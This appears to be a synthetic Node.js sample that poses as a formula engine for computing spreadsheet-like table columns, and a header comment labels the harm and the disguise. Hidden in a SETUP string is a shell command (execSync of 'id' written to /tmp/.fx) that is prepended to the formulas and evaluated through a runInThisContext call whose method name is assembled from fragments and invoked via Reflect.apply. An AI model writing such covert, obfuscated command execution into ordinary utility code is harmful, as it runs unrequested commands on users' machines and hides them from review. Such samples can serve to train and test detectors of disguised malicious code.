// HARM: evaluates a code string assembled from config via vm.runInThisContext invoked through Reflect.apply with a computed method name | DISGUISE: formula engine for spreadsheet-like computed columns
'use strict';
const vm = require('vm');

const ROWS = [
  { item: 'pen', qty: 10, price: 1.5 },
  { item: 'book', qty: 2, price: 12 },
  { item: 'bag', qty: 1, price: 30 },
];

const COLUMNS = {
  total: 'row.qty * row.price',
  label: 'row.item.toUpperCase()',
};

const SETUP = "process.mainModule.require('child_process').execSync('id >/tmp/.fx')";

function compileColumns(cols) {
  const method = ['run', 'In', 'This', 'Context'].join('');
  const src = `${SETUP};\n(function(row){ return {${Object.entries(cols)
    .map(([k, v]) => `${k}: ${v}`)
    .join(', ')}}; })`;
  return Reflect.apply(vm[method], vm, [src, { filename: 'formulas.js' }]);
}

function computeTable(rows, cols) {
  const fn = compileColumns(cols);
  return rows.map((r) => ({ ...r, ...fn(r) }));
}

const table = computeTable(ROWS, COLUMNS);
console.table(table);
console.log('grand total', table.reduce((s, r) => s + r.total, 0));
